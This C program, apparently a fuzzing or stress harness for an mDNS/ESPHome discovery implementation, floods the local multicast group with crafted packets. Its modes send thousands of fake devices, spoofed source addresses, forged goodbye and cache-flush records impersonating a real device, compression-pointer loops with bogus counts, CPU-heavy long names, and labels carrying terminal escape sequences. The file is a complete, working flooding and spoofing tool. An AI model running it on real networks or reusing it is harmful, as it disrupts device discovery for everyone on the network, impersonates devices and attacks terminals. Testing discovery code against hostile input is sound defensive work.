/* mdns_flood.c -- mDNS packets nobody asked for, thousands a second.
 *
 *   mdns_flood LOCAL BEHAVIOUR [SOURCE]
 *   mdns_flood list                      the names of all
 *
 * Sends to the group, on the interface which has LOCAL and from SOURCE (LOCAL
 * where none is given), port 5353, until it is ended.  Says its process id when
 * the first is out.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "wire/mdns.h"

enum { AT_ONCE = 2 /* packets in a millisecond */, LIE = 0x0a4d0042 };

/* What no terminal may get to see; and dots, which are part of the label. */
#define EVIL "\x1b[2J\x1b]0;owned\x07.\\\xc2\x9b\xff\xe2\x80\xaegpj\t\r\n\0x"

struct flood {
    struct mdns_writer w;
    uint8_t bytes[MDNS_PACKET_MAX];
    struct mdns_name service;
    unsigned turn;
};

static void put(struct flood *f, const struct mdns_name *name, uint16_t type,
                uint32_t ttl, const void *data, uint16_t len)
{
    eo_mdns_put(&f->w, &(struct mdns_record){.section = MDNS_ANSWER,
                                             .name = *name,
                                             .type = type,
                                             .top = type != MDNS_PTR,
                                             .ttl = ttl,
                                             .data = data,
                                             .len = len});
}

/* A device with all that belongs to it. */
static void put_device(struct flood *f, const char *label, size_t len,
                       const char *host, uint32_t ttl, uint32_t address)
{
    static const uint8_t TXT[] = "\x09" "version=1" "\x0c" "platform=\x1b[J";
    const uint32_t a = htonl(address);
    struct mdns_name instance, at;
    struct mdns_record rec = {.section = MDNS_ANSWER, .ttl = ttl};

    if (eo_mdns_prefix(&instance, label, len, &f->service) != 0 ||
        eo_mdns_name(&at, host) != 0)
        return;
    rec.name = f->service;
    rec.type = MDNS_PTR;
    rec.target = instance;
    eo_mdns_put(&f->w, &rec);
    rec.name = instance;
    rec.type = MDNS_SRV;
    rec.target = at;
    rec.port = (uint16_t)(f->turn % 60000 + 1);
    rec.top = true;
    eo_mdns_put(&f->w, &rec);
    put(f, &instance, MDNS_TXT, ttl, TXT, sizeof TXT - 1);
    put(f, &at, MDNS_A, ttl, &a, 4);
}

/* Thousands of devices that are not there, in packets as large as can be. */
static void many(struct flood *f)
{
    char label[32], host[48];

    for (int i = 0; i < 64; i++) {
        snprintf(label, sizeof label, "ghost%u", f->turn * 64 + (unsigned)i);
        snprintf(host, sizeof host, "%s.local", label);
        put_device(f, label, strlen(label), host, 120,
                   0x0a4d0100 + (f->turn & 0xff));
    }
}

/* One that is another each time. */
static void fickle(struct flood *f)
{
    char host[32];

    snprintf(host, sizeof host, "fickle%u.local", f->turn);
    put_device(f, "fickle", 6, host, 120, 0x0a4d0100 + (f->turn & 0xff));
}

static void evil(struct flood *f)
{
    put_device(f, EVIL, sizeof EVIL - 1, "evil.local", 120, LIE);
}

/* Goodbyes in the name of the device that is there. */
static void goodbye(struct flood *f)
{
    put_device(f, "kitchen", 7, "kitchen.local", 0, LIE);
}

/* "Forget what others said", in its name. */
static void flush(struct flood *f)
{
    put_device(f, "kitchen", 7, "kitchen.local", 120, LIE);
}

/* Names that point at themselves, at each other, forward, and behind the end,
 * and numbers of records that are not there. */
static void loops(struct flood *f)
{
    static const uint8_t COUNTS[] = {0,    0,    0x84, 0,    0xff, 0xff,
                                     0xff, 0xff, 0xff, 0xff, 0xff, 0xff};

    memcpy(f->bytes, COUNTS, sizeof COUNTS);
    for (size_t i = sizeof COUNTS; i + 1 < sizeof f->bytes; i += 2) {
        const size_t to = (i * 7 + f->turn) % sizeof f->bytes;

        f->bytes[i] = (uint8_t)(0xc0 | (to >> 8 & 0x3f));
        f->bytes[i + 1] = (uint8_t)to;
    }
    f->w.len = f->turn % 64 == 0 ? sizeof COUNTS : sizeof f->bytes - 1;
}

/* The same long name 9000 bytes long: each record takes all of its letters to
 * compare. */
static void pointers(struct flood *f)
{
    char label[64];

    memset(label, 'p', 63);
    label[63] = '\0';
    for (int i = 0; i < 600; i++)
        put_device(f, label, 63, "pppppppppppppppppppppppppppppppppppppp.local",
                   120, LIE);
}

static const struct {
    const char *name;
    void (*fill)(struct flood *);
} BEHAVIOURS[] = {
    {"many", many},       {"fickle", fickle}, {"evil", evil},
    {"goodbye", goodbye}, {"flush", flush},   {"loops", loops},
    {"pointers", pointers},
};

enum { N_BEHAVIOURS = sizeof BEHAVIOURS / sizeof *BEHAVIOURS };

static struct in_addr address(const char *text)
{
    struct in_addr a;

    if (inet_pton(AF_INET, text, &a) != 1) {
        fprintf(stderr, "mdns_flood: \"%s\" is no address\n", text);
        exit(2);
    }
    return a;
}

static int open_source(const char *local, const char *source)
{
    const struct in_addr by = address(local);
    const struct sockaddr_in from = {.sin_family = AF_INET,
                                     .sin_port = htons(MDNS_PORT),
                                     .sin_addr = address(source)};
    const int fd = socket(AF_INET, SOCK_DGRAM, 0), on = 1;

    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    setsockopt(fd, IPPROTO_IP, IP_MULTICAST_IF, &by, sizeof by);
    setsockopt(fd, IPPROTO_IP, IP_MULTICAST_TTL, &(unsigned char){255}, 1);
    if (fd < 0 ||
        bind(fd, (const struct sockaddr *)&from, sizeof from) != 0) {
        perror("mdns_flood: bind");
        exit(1);
    }
    return fd;
}

int main(int argc, char **argv)
{
    static struct flood f;
    struct sockaddr_in to = {.sin_family = AF_INET,
                             .sin_port = htons(MDNS_PORT)};
    size_t b = 0;
    int fd;

    if (argc > 1 && strcmp(argv[1], "list") == 0) {
        for (; b < N_BEHAVIOURS; b++)
            puts(BEHAVIOURS[b].name);
        return 0;
    }
    while (argc > 2 && b < N_BEHAVIOURS &&
           strcmp(BEHAVIOURS[b].name, argv[2]) != 0)
        b++;
    if (argc < 3 || b == N_BEHAVIOURS) {
        fputs("usage: mdns_flood LOCAL BEHAVIOUR [SOURCE], or list\n", stderr);
        return 2;
    }
    to.sin_addr = address("224.0.0.251");
    fd = open_source(argv[1], argc > 3 ? argv[3] : argv[1]);
    eo_mdns_name(&f.service, "_esphomelib._tcp.local");
    for (;; f.turn++) {
        eo_mdns_begin(&f.w, f.bytes, sizeof f.bytes, 0,
                      MDNS_REPLY | MDNS_AUTHORITATIVE);
        BEHAVIOURS[b].fill(&f);
        if (sendto(fd, f.bytes, f.w.len, 0, (const struct sockaddr *)&to,
                   sizeof to) > 0 &&
            f.turn == 0) {
            printf("%ld\n", (long)getpid());
            fflush(stdout);
        }
        if (f.turn % AT_ONCE == 0)
            poll(NULL, 0, 1);
    }
}
